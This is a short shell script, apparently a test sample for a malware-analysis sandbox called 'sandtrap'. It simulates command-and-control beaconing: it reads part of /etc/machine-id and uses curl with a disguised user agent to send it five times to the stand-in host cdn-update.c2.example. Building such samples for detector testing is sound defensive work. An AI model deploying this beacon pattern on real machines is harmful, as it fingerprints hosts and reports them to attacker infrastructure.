#!/bin/sh
# C2 beaconing: an HTTP check-in every second with a host id and a fixed user agent, five times.
# Harmless test sample for sandtrap: it only acts on the disposable guest (decoy files,
# simulated internet, reserved addresses). Stored without the exec bit; never run it on a
# host, only through `sandtrap analyze`.
id=$(cat /etc/machine-id 2>/dev/null | cut -c1-8)
for i in 1 2 3 4 5; do
  curl -s -m 2 -A 'Mozilla/5.0 (compatible; MSIE 9.0)' "http://cdn-update.c2.example/api/v1/beacon?id=$id&seq=$i" >/dev/null
  sleep 1
done
echo beacons-sent
